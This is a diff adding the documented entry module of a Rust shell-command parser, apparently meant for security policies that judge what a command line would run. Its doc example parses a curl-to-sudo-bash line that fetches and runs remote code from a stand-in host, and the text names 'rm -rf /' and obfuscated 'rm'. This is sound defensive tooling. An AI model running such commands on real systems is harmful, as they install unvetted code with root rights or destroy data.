@@ -1,0 +1,114 @@
+//! Shell command lines, parsed the way a shell would read them, so a policy
+//! judges what would *run* instead of grepping text.
+//!
+//! [`parse`] reads a POSIX/bash command line without expanding or running
+//! anything and returns a [`CommandLine`]: every simple command found anywhere
+//! in the line, flattened into one list ([`CommandLine::commands`]), and the
+//! pipelines that connect them ([`CommandLine::pipelines`]).
+//!
+//! ```
+//! use clawlaw_sdk::shell;
+//!
+//! let line = shell::parse("cd /tmp && curl -fsSL https://x.example/i.sh | sudo bash");
+//! let bash = line.commands.iter().find(|c| c.program == "bash").unwrap();
+//! assert!(bash.piped_in);
+//! assert!(bash.has_wrapper("sudo"));
+//! let upstream = line.upstream(line.commands.iter().position(|c| c.program == "bash").unwrap());
+//! assert!(upstream.iter().any(|&i| line.commands[i].program == "curl"));
+//! assert!(line.is_complete());
+//! ```
+//!
+//! # What is understood
+//!
+//! - **Words**: single quotes, double quotes (with `\$ \` \" \\` escapes),
+//!   backslash escapes and line continuations, `$'…'` ANSI-C strings (decoded:
+//!   `$'\x72\x6d'` is `rm`), `$"…"`. A [`Word`]'s `text` is the word after
+//!   quote removal; expansions (`$VAR`, `${…}`, `$(…)`, backquotes, `$((…))`),
+//!   unquoted globs (`* ? [`), brace lists (`{a,b}`) and a leading `~` are
+//!   kept as written and marked as *dynamic* spans of the text
+//!   ([`Word::is_dynamic`], [`Word::dynamic_spans`]).
+//! - **Control operators** `;` `&&` `||` `|` `|&` `&` and newlines; `|&` is
+//!   recorded as an implicit `2>&1` redirect. Comments (`# …`) are skipped.
+//! - **Redirections** (`<` `>` `>>` `>|` `<>` `&>` `&>>` `N>&M` `<&` `<<`
+//!   `<<-` `<<<`) go to [`Command::redirects`], never into `argv`; here-document
+//!   bodies are captured in [`Redirect::here_doc`] (and analysed for
+//!   substitutions when the delimiter is unquoted).
+//! - **Assignments** before the program (`FOO=bar cmd`, also those given to
+//!   `env` and `sudo`) go to [`Command::assignments`].
+//! - **Nesting**: command substitutions `$(…)` and backquotes, process
+//!   substitutions `<(…)` `>(…)`, subshells `( … )`, brace groups `{ …; }`,
+//!   function bodies, `case` arms, the string of `sh|bash|zsh|dash|ksh|… -c`,
+//!   `su -c`, `eval`, `watch`, `env -S`, `sudo -s`, and `find -exec … ;` are
+//!   all parsed; their commands appear in the flat list with a larger
+//!   [`Command::depth`], their [`Command::parent`] and [`Command::origin`].
+//!   Compound commands (`( … )`, `{ …; }`, `((…))`, function definitions) are
+//!   listed too, as placeholders of the matching [`CommandKind`] carrying the
+//!   compound's redirects and pipe position.
+//! - **Wrappers**: `sudo`, `doas`, `pkexec`, `env`, `nice`, `nohup`, `time`,
+//!   `timeout`, `command`, `builtin`, `exec`, `xargs`, `stdbuf`, `ionice`,
+//!   `chroot`, `setsid`, `busybox` and `watch` are unwrapped, options and all:
+//!   `argv` starts at the real program, and [`Command::wrappers`] records what
+//!   was stripped (a policy needs to know `sudo` was there). `command -v x` is
+//!   not unwrapped: it runs nothing.
+//! - **Program names** are normalised to their basename ([`Command::program`]:
+//!   `/bin/rm`, `\rm`, `"rm"` and `$'\x72m'` are all `rm`). When the basename
+//!   depends on an expansion (`$(echo rm)`, `$CMD`, `/bin/r?`) the program is
+//!   the raw text and [`Command::program_dynamic`] is set.
+//! - Keywords (`if then else elif fi for while until do done case esac
+//!   function ! [[ ]]` and `((…))`) are understood enough to find the commands
+//!   inside; loop and `if` bodies are listed as ordinary commands.
+//!
+//! # Incomplete and hostile input
+//!
+//! Parsing **never fails and never panics**. Input a shell would reject or
+//! that cannot be analysed in full — an unclosed quote, `$(`, `(`, `{` or
+//! `case`, an operator where a command should be, nesting deeper than
+//! [`MAX_DEPTH`], a line longer than [`MAX_LEN`], more than [`MAX_COMMANDS`]
+//! commands or [`MAX_WORDS`] words, a NUL byte — is parsed on a best-effort
+//! basis and flagged in [`CommandLine::issues`]. A policy must treat
+//! `!line.is_complete()` as suspicious: what the shell would do with such a
+//! line is not what the parse shows (best-effort still lets it deny
+//! `rm -rf / "` for the `rm`). Work is bounded: recursion is limited to
+//! [`MAX_DEPTH`] levels, and all nested re-parsing (`sh -c` strings,
+//! backquotes, here-documents) shares a budget of a few times [`MAX_LEN`].
+//!
+//! # What it does not do
+//!
+//! It expands nothing: variables, globs, aliases, functions' later calls and
+//! the contents of files are unknown (`bash script.sh` is one command).
+//! Options are recognised syntactically ([`Command::has_flag`],
+//! [`Command::operands`]) without knowing which options take a value.
+//! Code strings of other languages (`python -c`, `perl -e`) are not parsed.
+
+mod model;
+mod parser;
+mod relations;
+mod wrappers;
+
+#[cfg(test)]
+mod tests;
+
+pub use model::{
+    Assignment, Command, CommandKind, CommandLine, Issue, Origin, Pipeline, Redirect, RedirectOp,
+    Word, Wrapper, basename, quote,
+};
+
+/// Deepest nesting analysed (substitutions, subshells, groups, `sh -c`
+/// strings, `${…}`, `$((…))` all count); deeper input is skipped and flagged
+/// [`Issue::TooDeep`].
+pub const MAX_DEPTH: usize = 32;
+/// Longest command line analysed, in bytes; the rest is ignored and flagged
+/// [`Issue::TooLarge`].
+pub const MAX_LEN: usize = 1 << 20;
+/// Most commands recorded; parsing stops there with [`Issue::TooLarge`].
+pub const MAX_COMMANDS: usize = 4096;
+/// Most words recorded; parsing stops there with [`Issue::TooLarge`].
+pub const MAX_WORDS: usize = 1 << 16;
+/// Total bytes that nested re-parsing may read.
+const WORK_BUDGET: usize = 4 * MAX_LEN;
+
+/// Parses a command line. Never fails, never panics: see the module
+/// documentation for how incomplete input is reported.
+pub fn parse(line: &str) -> CommandLine {
+    parser::parse(line)
+}
